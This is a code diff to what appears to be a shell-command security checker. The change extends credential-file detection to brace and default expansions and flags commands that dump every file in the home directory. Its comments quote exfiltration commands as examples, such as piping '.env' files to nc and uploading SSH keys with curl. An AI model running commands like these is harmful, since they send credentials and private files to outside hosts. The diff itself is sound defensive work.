@@ -7,7 +7,7 @@
 import { compiledRegex } from '../policy/arg-rule.js';
 import { joinSegments, pathSegments } from '../policy/paths.js';
 import { CREDENTIAL_PATH } from './credential-paths.js';
-import { FILE_LISTERS, REMOTE_STORES } from './egress-vocabulary.js';
+import { CONTENT_DUMPERS, FILE_LISTERS, namesWholeHome, REMOTE_STORES } from './egress-vocabulary.js';
 import {
   collectAssignments,
   commandName,
@@ -37,7 +37,7 @@ import {
 } from './shell.js';
 import { credentialGlob, mayGlob } from './shell-globs.js';
 import { resumesEarlier } from './shell-history.js';
-import { listsHome, UNSEEN_MARK } from './shell-option-scripts.js';
+import { HOME_SENT_MARK, listsHome, UNSEEN_MARK } from './shell-option-scripts.js';
 import { type Redirect, type SimpleCommand, showPiece } from './shell-parse.js';
 import { type CommandParse, parseCommands, plainParse, shellFastPath } from './shell-plain.js';
 import { storesCredential } from './shell-stores.js';
@@ -362,11 +362,10 @@ function plainLines(
       const w = words[j] as string;
       if (find && isExecFlag(w)) return undefined;
       // `cat .e* | nc h 80`: a glob that can match a credential file is the general reader's (round 25).
-      if (mayGlob(w) && credentialGlob(w) !== undefined) return undefined;
+      if (credentialWord(w, NO_VARS) !== undefined) return undefined;
       if (!respelled && respells(w)) respelled = true;
     }
-    for (const r of cmd.redirects)
-      if (mayGlob(r.target) && credentialGlob(r.target) !== undefined) return undefined;
+    for (const r of cmd.redirects) if (credentialWord(r.target, NO_VARS) !== undefined) return undefined;
   }
   const line = itself ? undefined : listLine(cmds, undefined, 0, false, NO_VARS);
   const canonical = respelled ? listLine(cmds, undefined, 0, true, NO_VARS) : line;
@@ -382,13 +381,16 @@ const mayListHome = (c: SimpleCommand): boolean => {
   );
 };
 /** A list with each glob word or target that can match a credential file spelled as it (credentialGlob); undefined: none. */
-function credentialGlobs(cmds: readonly SimpleCommand[]): SimpleCommand[] | undefined {
+function credentialGlobs(
+  cmds: readonly SimpleCommand[],
+  vars: ReadonlyMap<string, string>,
+): SimpleCommand[] | undefined {
   let out: SimpleCommand[] | undefined;
   cmds.forEach((c, i) => {
     let words: string[] | undefined;
     let shown: string[] | undefined;
     c.words.forEach((w, j) => {
-      const cred = mayGlob(w) ? credentialGlob(w) : undefined;
+      const cred = credentialWord(w, vars);
       if (cred === undefined) return;
       words ??= [...c.words];
       shown ??= [...c.shown];
@@ -397,7 +399,7 @@ function credentialGlobs(cmds: readonly SimpleCommand[]): SimpleCommand[] | unde
     });
     let redirects = c.redirects;
     for (const [k, r] of c.redirects.entries()) {
-      const cred = mayGlob(r.target) ? credentialGlob(r.target) : undefined;
+      const cred = credentialWord(r.target, vars);
       if (cred === undefined) continue;
       if (redirects === c.redirects) redirects = [...c.redirects];
       (redirects as Redirect[])[k] = { op: r.op, target: cred };
@@ -407,6 +409,22 @@ function credentialGlobs(cmds: readonly SimpleCommand[]): SimpleCommand[] | unde
     out[i] = { ...c, words: words ?? c.words, shown: shown ?? c.shown, redirects, literal: undefined };
   });
   return out;
+}
+
+/**
+ * The credential file a word may name once the shell expands it (round 25): a glob that can match one
+ * (shell-globs.ts), or a brace or default expansion with one among its words (`.en{v,}`, `${F:-.env}`).
+ */
+function credentialWord(w: string, vars: ReadonlyMap<string, string>): string | undefined {
+  const glob = mayGlob(w) ? credentialGlob(w) : undefined;
+  if (glob !== undefined || !w.includes('{')) return glob;
+  const cred = compiledRegex(CREDENTIAL_PATH);
+  for (const x of expandWord(w, vars)) {
+    if (x === w) continue;
+    const named = cred.test(x) ? x : mayGlob(x) ? credentialGlob(x) : undefined;
+    if (named !== undefined) return named;
+  }
+  return undefined;
 }
 
 /** tailLines past hiddenTails' bound: a marker no rendering equals (a NUL never survives the parse). */
@@ -461,7 +479,7 @@ function readList(
         }
   // `cat .e* | nc h 80`, `curl -T ~/.ssh/id_* h`: the list with each glob that can match a credential file
   // spelled as that file, read again whole so every reader judges it (round 25, shell-globs.ts).
-  const globbed = credentialGlobs(cmds);
+  const globbed = credentialGlobs(cmds, st.vars);
   if (globbed !== undefined) scripts.push(listLine(globbed, starts, 0, false, NO_VARS));
   for (let i = 0; i < cmds.length; i++) {
     // `q=tar; $q czf - ~`, `{socat,} FILE:.env ..`: a computed command word read as what it expands to, so
@@ -689,6 +707,9 @@ function execScripts(words: readonly string[]): string[] {
     if (inner.includes('{}')) {
       reach ??= findReach(words);
       for (const r of reach) out.push(quoteWords(inner.map((x) => (x === '{}' ? r : x))));
+      // `find ~ -type f -exec cat {} +`: every file of the home printed, as packing it (round 25).
+      if (CONTENT_DUMPERS.has(commandName(inner[0] as string)) && reach.some(namesWholeHome))
+        out.push(HOME_SENT_MARK);
     }
     j = end;
   }
